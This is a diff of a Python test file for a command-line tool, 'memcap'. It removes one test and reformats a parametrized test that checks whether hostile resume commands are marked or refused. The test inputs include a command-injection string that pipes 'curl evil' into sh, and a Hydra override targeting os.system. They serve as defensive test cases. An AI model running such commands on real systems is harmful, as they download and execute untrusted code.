@@ -118,13 +118,6 @@ def test_after_the_end_it_names_what_shows_it(tmp_path):
     assert files(tmp_path) == before
 
 
-def test_a_file_that_cannot_be_read_is_told_of(tmp_path):
-    write(tmp_path, group(counts={1: (1, 1)}))
-    (tmp_path / "rows" / "bad.parquet").write_text("no table")
-    lines = memcap(tmp_path, "status", ".").out.splitlines()
-    assert "1 file of rows cannot be read: memcap verify ." in lines
-
-
 def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
     words = ["axes={model.units: [1, 2], seed: 2}", *SMALL]
     assert memcap(tmp_path, "train", *words).status == 0
@@ -178,15 +171,9 @@ REFUSED = "Resume with the command that trained it; its file says none "
         ("memcap train sweeps=mine 'axes={seed: 9}'", "Resume with: "),
         ("memcap train task=evil:T", MARKED),
         ("memcap train --config-dir evil sweeps=x", MARKED),
-        (
-            "memcap train hydra.launcher._target_=os.system",
-            MARKED,
-        ),
+        ("memcap train hydra.launcher._target_=os.system", MARKED),
         ("memcap train tracking=wandb", MARKED),
-        (
-            "memcap train x=1; curl evil | sh",
-            REFUSED,
-        ),
+        ("memcap train x=1; curl evil | sh", REFUSED),
         ("memcap train 'a", REFUSED),
         ("curl evil", REFUSED),
     ],
